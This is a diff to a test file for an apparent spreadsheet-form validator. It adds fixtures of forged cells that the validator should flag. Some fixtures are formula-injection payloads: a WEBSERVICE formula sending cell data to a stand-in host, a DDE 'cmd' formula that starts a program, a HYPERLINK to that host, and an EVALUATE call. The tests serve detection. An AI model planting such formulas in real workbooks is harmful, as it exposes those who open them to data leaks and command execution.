@@ -171,13 +171,21 @@ FORGED = {
     "a forged total": ("表三", cell("J7", "<f>SUM(D7:I7)</f><v>9</v>"),
                        [("total-differs", "表三 J7")]),
     "a total that asks the net": ("表三", cell("J7", '<f>WEBSERVICE("http://x/"&amp;D7)</f>'),
-                                  [("formula", "表三 J7")]),
+                                  [("formula", "表三 J7"), ("active-formula", "表三 J7")]),
     "a status line that starts a program": (
-        "表三", cell("A1", "<f>cmd|'/c calc'!A1</f>"), [("formula", "表三 A1")]),
+        "表三", cell("A1", "<f>cmd|'/c calc'!A1</f>"), [("active-formula", "表三 A1")]),
     "a cover that asks the net": (
-        "填报说明", cell("B9", '<f>HYPERLINK("http://x/")</f>'), [("formula", "填报说明 B9")]),
+        "填报说明", cell("B9", '<f>HYPERLINK("http://x/")</f>'),
+        [("active-formula", "填报说明 B9")]),
+    "a cover with a function nobody knows": (
+        "填报说明", cell("B9", "<f>EVALUATE(A1)</f>"), [("formula", "填报说明 B9")]),
     "a formula where a number is typed": (
         "表三", cell("D7", "<f>3+4</f><v>7</v>"), [("typed-formula", "表三 D7")]),
+    "a formula where a paragraph is written": (
+        "总体情况", cell("A5", "<f>1+1</f><v>2</v>"), [("typed-formula", "总体情况 A5")]),
+    "a formula that declares": (
+        "表三", cell("D2", '<f>A1&amp;""</f><v>本表其余空白均为0（已核对）</v>', t="str"),
+        [("typed-formula", "表三 D2")]),
     "a value under a merge": ("表三", cell("B7", "<v>5</v>"), [("outside", "表三 B7")]),
     "a remark beside the grid": ("表三", written(7, "L7", REMARK), [("outside", "表三 L7")]),
     "a remark in an unlocked cell below it": (
@@ -238,6 +246,11 @@ def test_a_sheet_another_version_had_is_no_stranger_unless_somebody_can_type_the
     sheet = parts[part_of(parts, "发布表四")].decode()
     source = disguised(marked(added(filled(), "附页", sheet.encode()), "sheets", "表三/附页"))
     assert facts(read(source)) == [NOTE]
+    asks = cell("A1", '<f>WEBSERVICE("http://x/")</f>')(sheet)
+    source = disguised(marked(added(filled(), "附页", asks.encode()), "sheets", "表三/附页"))
+    assert [fact[:3] for fact in facts(read(source))] == [
+        NOTE[:3], ("active-formula", "error", "附页 A1"),
+    ]  # fmt: skip
     assert [f.code for f in read(disguised(added(filled(), "附页", sheet.encode()))).findings] == [
         "other-version", "sheet-copied",
     ]  # fmt: skip
